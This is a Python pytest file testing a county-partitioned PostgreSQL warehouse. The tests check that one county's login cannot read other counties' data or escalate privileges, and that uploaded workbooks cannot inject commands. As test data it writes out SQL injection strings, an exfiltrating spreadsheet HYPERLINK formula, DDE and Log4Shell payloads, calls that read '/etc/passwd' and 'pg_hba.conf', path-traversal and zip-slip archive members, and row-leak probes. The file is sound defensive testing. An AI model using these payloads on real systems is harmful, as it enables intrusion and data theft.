"""Attempts of a county's login, and of a county's file, to get at what is not theirs. Each must fail."""

from __future__ import annotations

import zipfile

import openpyxl
import psycopg
import pytest
from small_city import COUNTIES, WHOLE, make

from demo.generate import write_week
from ingestion.load import load
from ingestion.receive import receive
from tests.integration.logins import logins
from warehouse import database, roles
from warehouse.settings import WarehouseError

pytestmark = [pytest.mark.database, pytest.mark.slow]
OTHER = COUNTIES[1]
DENIED = psycopg.errors.InsufficientPrivilege
FACT = "marts.fct_employment_weekly"


@pytest.fixture(scope="module")
def city(server, template, tmp_path_factory):
    return make(server, template, tmp_path_factory.mktemp("city"))


@pytest.fixture(scope="module")
def made(city):
    with logins(city.settings, [f"county_{WHOLE}", roles.BI_READER, roles.AUDITOR]) as found:
        yield found


@pytest.fixture
def county(made):
    """A fresh session of the first county's login."""
    with made.connect(f"county_{WHOLE}") as connection:
        yield connection


@pytest.fixture(scope="module")
def admin(city):
    with database.connect(city.settings, autocommit=True) as connection:
        yield connection


def counties(connection, what: str, *parameters) -> set[str]:
    return {code for (code,) in connection.execute(what, parameters)}


# -- reading another county --------------------------------------------------------------------------


def test_by_a_view(county, admin):
    assert counties(admin, f"select county_code from {FACT}") == set(COUNTIES)
    assert counties(county, f"select county_code from {FACT}") == {WHOLE}
    assert counties(county, f"select county_code from {FACT} where county_code = %s", OTHER) == set()


def test_by_an_overview(county):
    assert counties(county, "select county_code from marts.employment_overview") == {WHOLE}
    assert counties(county, "select county_code from marts.employment_overview where county_code <> %s", WHOLE) == set()


def test_by_the_function_that_traces(county, admin):
    week, key = admin.execute(f"select week, township_code from {FACT} where county_code = %s and carried_from_week is null limit 1", [OTHER]).fetchone()
    asked = "select count(*) from quality.trace_cell('fct_employment_weekly', null, %s, %s, %s, 'employed_away')"
    assert admin.execute(asked, [OTHER, week, key]).fetchone() == (1,)
    assert county.execute(asked, [OTHER, week, key]).fetchone() == (0,)
    own = admin.execute(f"select week, township_code from {FACT} where county_code = %s and carried_from_week is null limit 1", [WHOLE]).fetchone()
    assert county.execute(asked, [WHOLE, *own]).fetchone() == (1,)
    with pytest.raises(DENIED):
        county.execute("select * from store.trace_cell('fct_employment_weekly', null, %s, %s, %s, 'employed_away')", [OTHER, week, key])


@pytest.mark.parametrize("number", ["1", "2", "999999999"])
def test_by_the_publication_that_is_read(county, number):
    county.execute(f"set warehouse.publication = '{number}'")
    if number == "999999999":
        with pytest.raises(psycopg.errors.InvalidParameterValue, match="There is no publication 999999999"):
            county.execute(f"select county_code from {FACT}")
        return
    assert counties(county, f"select county_code from {FACT}") <= {WHOLE}
    assert counties(county, "select county_code from marts.fct_revision") <= {WHOLE}


def test_by_a_setting_that_is_no_number(county):
    county.execute("set warehouse.publication = '1) or true --'")
    with pytest.raises(psycopg.errors.InvalidTextRepresentation):
        county.execute(f"select count(*) from {FACT}")


def test_by_settings_that_pretend_to_be_another(county):
    for statement in ("set role bi_reader", f"set role county_{OTHER}", "set role warehouse_loader", "set role auditor", "set session authorization auditor"):
        with pytest.raises(DENIED):
            county.execute(statement)
    with pytest.raises(DENIED):
        county.execute("select set_config('role', 'bi_reader', false)")
    with pytest.raises(psycopg.Error):
        county.execute("set is_superuser = on")
    county.execute("select set_config('warehouse.county', %s, false)", [OTHER])
    assert counties(county, f"select county_code from {FACT}") == {WHOLE}


def test_by_a_search_path_with_functions_of_its_own(county):
    """Views and functions name what they call in full: a schema of one's own in front changes nothing, and cannot be made."""
    for statement in ("create schema store", "create schema mine", "create function pg_temp.reads_all() returns boolean language sql return true"):
        with pytest.raises(DENIED):
            county.execute(statement)
    county.execute("set search_path = marts, quality, pg_temp")
    assert counties(county, "select county_code from fct_employment_weekly") == {WHOLE}


def test_by_a_function_that_tells_of_each_row_it_is_asked_about(county, admin):
    """The filter comes first: what a condition of one's own does to a row, it does to own rows only."""
    others = admin.execute(f"select max(employed_away) from {FACT} where county_code <> %s and employed_away not in (select employed_away from {FACT} where county_code = %s)", [WHOLE, WHOLE]).fetchone()[0]
    assert others is not None
    county.execute(f"select * from {FACT} where 1 / (employed_away - {others}) is null")  # would divide by zero on that row
    with pytest.raises(psycopg.errors.DivisionByZero):
        admin.execute(f"select * from {FACT} where 1 / (employed_away - {others}) is null")


@pytest.mark.parametrize("by", [
    "select * from {fact} f join marts.dim_week w on w.week = f.week and 1 / (f.employed_away - {figure}) is null",
    "select * from marts.dim_county c left join {fact} f on 1 / (f.employed_away - {figure}) is null",
    "select * from {fact} f where exists (select from (values ({figure})) v (figure) where 1 / (f.employed_away - v.figure) is null)",
    "select count(*) filter (where 1 / (employed_away - {figure}) is null) from {fact}",
    "select county_code from {fact} order by 1 / (employed_away - {figure})",
    "select * from {fact} where county_code = '{other}' and 1 / (employed_away - {figure}) is null",
    "select * from {fact} where case when county_code = '{other}' then 1 / (employed_away - {figure}) is null end",
    "select * from {fact} f, lateral (select 1 / (f.employed_away - {figure}) as told offset 0) t",
    "select * from marts.employment_overview where 1 / (employed_away - {figure}) is null",
    "select * from marts.as_published(null::{fact}, 2) where 1 / (employed_away - {figure}) is null",
])  # fmt: skip
def test_by_such_a_function_on_another_road(by, county, admin):
    """The view's own filter would not be enough for these: the planner may ask what costs less first."""
    (figure,) = admin.execute(f"select employed_away from {FACT} where county_code = %s and employed_away not in (select employed_away from {FACT} where county_code = %s) limit 1", [OTHER, WHOLE]).fetchone()
    asked = by.format(fact=FACT, figure=figure, other=OTHER)
    county.execute(asked)
    with pytest.raises(psycopg.errors.DivisionByZero):
        admin.execute(asked)


def test_by_statistics(county, admin):
    admin.execute("analyze store.fct_employment_weekly")
    assert county.execute("select count(*) from pg_stats where schemaname in ('store', 'raw', 'intake', 'quality', 'candidate') and tablename not in ('rule', 'rule_term')").fetchone() == (0,)
    for table in ("pg_statistic", "pg_statistic_ext_data"):
        with pytest.raises(DENIED):
            county.execute(f"select * from {table}")


@pytest.mark.parametrize("by", [
    "select * from {fact} where employed_away = {figure}",
    "select * from {fact} where employed_away > {figure}",
    "select * from {fact} where employed_away in ({figure}, -1)",
    "select * from {fact} f join (values ({figure})) v (figure) on f.employed_away = v.figure",
    "select employed_away, count(*) from {fact} where employed_away <> {figure} group by 1",
])  # fmt: skip
def test_by_the_planner_s_guesses(by, county, admin):
    """EXPLAIN says the same for a figure that another county has a hundred times and for one that nobody has."""
    admin.execute("analyze store.fct_employment_weekly")
    (common,) = admin.execute(f"select employed_away from {FACT} where county_code <> %s group by 1 order by count(*) desc limit 1", [WHOLE]).fetchone()

    def guess(value):
        return [line.replace(str(value), "?") for (line,) in county.execute("explain " + by.format(fact=FACT, figure=value))]

    assert guess(common) == guess(1_234_567)


def test_by_copy(county):
    with county.cursor() as cursor, cursor.copy(f"copy (select county_code from {FACT}) to stdout") as out:
        assert {bytes(line).decode().strip() for line in out} == {WHOLE}
    for statement in ("copy store.fct_employment_weekly to stdout", "copy quality.finding to '/tmp/findings'", "copy (select 1) to program 'id'"):
        with pytest.raises(DENIED), county.transaction():
            county.execute(statement)


def test_by_a_large_offset_or_an_odd_join(county):
    assert county.execute(f"select count(*) from (select * from {FACT} offset 0) t where county_code <> %s", [WHOLE]).fetchone() == (0,)
    assert county.execute(f"select * from {FACT} offset 1000000").fetchall() == []
    assert counties(county, f"select f.county_code from {FACT} f full join marts.dim_county c on true where f.county_code is not null") == {WHOLE}
    assert counties(county, f"(select county_code from {FACT} union all select county_code from {FACT})") == {WHOLE}


def test_by_a_view_of_views(county):
    with pytest.raises(DENIED):
        county.execute(f"create temporary view mine as select * from {FACT}")
    with pytest.raises(DENIED):
        county.execute(f"create view marts.mine as select * from {FACT}")


def test_by_the_schemas_behind(county):
    for table in ("raw.emp01", "raw.personal", "intake.file", "intake.submission", "candidate.fct_employment_weekly", "staging.stg_emp01__rows", "store.fct_employment_weekly", "ops.pending_slice", "quality.approval", "quality.check_run"):
        with pytest.raises(DENIED):
            county.execute(f"select * from {table}")


def test_by_quality(county, admin):
    for table in ("finding", "check_result", "reporting_status", "check_result_current", "check_grid", "finding_life", "punctuality"):
        assert counties(county, f"select distinct county_code from quality.{table}") <= {WHOLE}, table
    assert counties(admin, "select distinct county_code from quality.check_grid") > {WHOLE}


def test_by_the_catalogue(county):
    """What the catalogue tells everyone is names and definitions, no rows and no secrets."""
    for statement in ("select rolpassword from pg_authid", "select * from pg_largeobject", "select pg_read_file('pg_hba.conf')", "select lo_import('/etc/passwd')", "select pg_ls_dir('.')"):
        with pytest.raises(DENIED):
            county.execute(statement)
    assert county.execute("select count(*) from pg_shdescription where description ~ 'password'").fetchone() == (0,)


def test_by_another_server_or_language(county):
    assert counties(county, "select extname from pg_extension") <= {"plpgsql"}
    for statement in ("create extension dblink", "create extension postgres_fdw", "create language plpython3u", "create server s foreign data wrapper w"):
        with pytest.raises(psycopg.Error):
            county.execute(statement)


def test_by_what_others_are_asking(county, made):
    with made.connect(roles.AUDITOR) as auditor:
        auditor.execute("select 'a secret of the auditor'")
        said = county.execute("select query from pg_stat_activity where usename <> current_user").fetchall()
        assert all("secret" not in (query or "") for (query,) in said)
        (pid,) = auditor.execute("select pg_backend_pid()").fetchone()
        with pytest.raises(DENIED):
            county.execute("select pg_terminate_backend(%s)", [pid])


def test_by_writing(county):
    for statement in (
        f"update {FACT} set employed_away = 0", f"delete from {FACT}", "update quality.finding set status = 'resolved'", f"insert into {FACT} (week) values ('2020-W24')",
        "insert into quality.waiver (rule_id, county_code, form, from_week, to_week, granted_by, reason_zh, expires_on) values ('EMP-001', '*', 'EMP01', '2020-W01', '2020-W53', 'x', 'x', '2030-01-01')",
        f"select * from {FACT} for update", "lock table quality.finding", "select setval('quality.finding_finding_id_seq', 1)", "refresh materialized view marts.x",
    ):  # fmt: skip
        with pytest.raises(psycopg.Error) as refused, county.transaction():
            county.execute(statement)
        assert isinstance(refused.value, (DENIED, psycopg.errors.UndefinedTable)), statement


def test_by_an_owner_s_right_over_the_filter(county):
    for statement in ("alter table quality.finding disable row level security", "drop policy own_county on quality.finding", "create or replace function store.reads_all() returns boolean language sql return true",
                      f"create or replace view {FACT} as select 1", f"alter view {FACT} owner to current_user", "set role warehouse_views", "alter table store.fct_employment_weekly disable row level security", "grant bi_reader to current_user", f"grant county_{OTHER} to current_user"):  # fmt: skip
        with pytest.raises(DENIED):
            county.execute(statement)
    county.execute("set row_security = off")
    for table in ("quality.finding", FACT, "marts.employment_overview"):
        with pytest.raises(DENIED):
            county.execute(f"select * from {table}")


def test_a_reader_of_the_marts_gets_at_no_person(made):
    with made.connect(roles.BI_READER) as reader:
        assert len(counties(reader, f"select distinct county_code from {FACT}")) == 3
        for table in ("raw.ind02", "raw.mon02", "raw.personal", "intake.submission", "quality.finding"):
            with pytest.raises(DENIED):
                reader.execute(f"select * from {table}")


def test_the_auditor_gets_at_no_person(made):
    with made.connect(roles.AUDITOR) as auditor:
        assert auditor.execute("select count(*) from raw.ind02 where household_key is not null").fetchone()[0] > 0
        for what in ("id_number from raw.ind02", "head_name from raw.mon02", "r from raw.ind02 r", "to_jsonb(r) from raw.mon02 r", "extra from raw.emp01", "sealed from raw.personal"):
            with pytest.raises(DENIED):
                auditor.execute(f"select {what}")


# -- by a file ---------------------------------------------------------------------------------------

ATTACK = "'); drop schema marts cascade; --"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"详情")'


@pytest.fixture
def attacked(connection, settings, tmp_path):
    """A county's workbook with SQL and formulas in cells, headings, sheet and file names; received and loaded."""
    demo = write_week(tmp_path / "week", 24, counties=[WHOLE], payouts=6, forms=("EMP01", "FUN01"))
    path = next(demo.folder / f.path for f in demo.files if f.path.endswith(".xlsx"))
    book = openpyxl.load_workbook(path)
    page = max(book.worksheets, key=lambda sheet: sheet.max_row * sheet.max_column)
    figures = [cell for row in page.iter_rows() for cell in row if isinstance(cell.value, (int, float)) and cell.value > 9]
    for cell, text in zip(figures[5:], (ATTACK, FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"), strict=False):
        cell.value = text
        cell.data_type = "s"
    odd = book.create_sheet("x'; drop table a--")
    odd["A1"], odd["B1"], odd["A2"] = ATTACK, "=1+1", "${jndi:ldap://example.invalid/a}"
    inbox = tmp_path / "in"
    inbox.mkdir()
    book.save(inbox / "周报'); drop table intake.file; --.xlsx")
    receive(connection, settings, inbox)
    load(connection, settings, workers=0)
    return settings


def test_sql_in_cells_sheets_and_names_stays_text(attacked, connection):
    have = counties(connection, "select nspname from pg_namespace")
    assert {"marts", "intake", "raw", "quality", "store"} <= have
    assert connection.execute("select original_name from intake.file").fetchone()[0].startswith("周报');")
    assert connection.execute("select count(*) from quality.finding where value = %s or message_zh like '%%' || %s || '%%'", [ATTACK, ATTACK]).fetchone()[0] > 0


def test_formulas_do_not_come_back_as_formulas(attacked, connection):
    """In the sheet of findings, and where the county had text: what began as text stays text."""
    (returned,) = attacked.outbox.rglob("*.xlsx")
    book = openpyxl.load_workbook(returned)
    said = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert any(ATTACK in cell.value for cell in said)
    mine = {cell.coordinate for cell in openpyxl.load_workbook(next(attacked.outbox.rglob("*.xlsx")))["x'; drop table a--"]["B"]}
    formulas = [(c.parent.title, c.coordinate) for c in said if c.data_type == "f"]
    assert all(title == "x'; drop table a--" and where in mine for title, where in formulas), formulas


def test_a_path_that_leaves_the_folder(connection, settings, tmp_path):
    inbox = tmp_path / "in"
    inbox.mkdir()
    (tmp_path / "secret.xlsx").write_bytes(b"x")
    for path in ("../secret.xlsx", str(tmp_path / "secret.xlsx"), "a/../../secret.xlsx"):
        (inbox / "arrivals.csv").write_text(f"path,received_at\n{path},2020-06-15T09:00+08:00\n", encoding="utf-8")
        with pytest.raises(WarehouseError, match="leads out of"):
            receive(connection, settings, inbox)
    (inbox / "arrivals.csv").unlink()
    (inbox / "link.xlsx").symlink_to(tmp_path / "secret.xlsx")
    receive(connection, settings, inbox)
    assert connection.execute("select count(*) from intake.file").fetchone() == (0,)


def test_a_member_that_would_be_unpacked_elsewhere(connection, settings, tmp_path):
    inbox = tmp_path / "in"
    inbox.mkdir()
    before = {p for p in tmp_path.rglob("*") if p.is_file()}
    with zipfile.ZipFile(inbox / "周报.zip", "w") as archive:
        archive.writestr("../../../escaped.xlsx", b"PK")
        archive.writestr("/etc/escaped.xlsx", b"PK")
        archive.writestr("..\\..\\escaped.csv", "a,b\n1,2\n")
    receive(connection, settings, inbox)
    load(connection, settings, workers=0)
    after = {p for p in tmp_path.rglob("*") if p.is_file()} - before
    assert not [p for p in after if "escaped" in p.name and settings.outbox not in p.parents]
    assert all(settings.outbox.resolve() in p.resolve().parents for p in settings.outbox.rglob("*"))
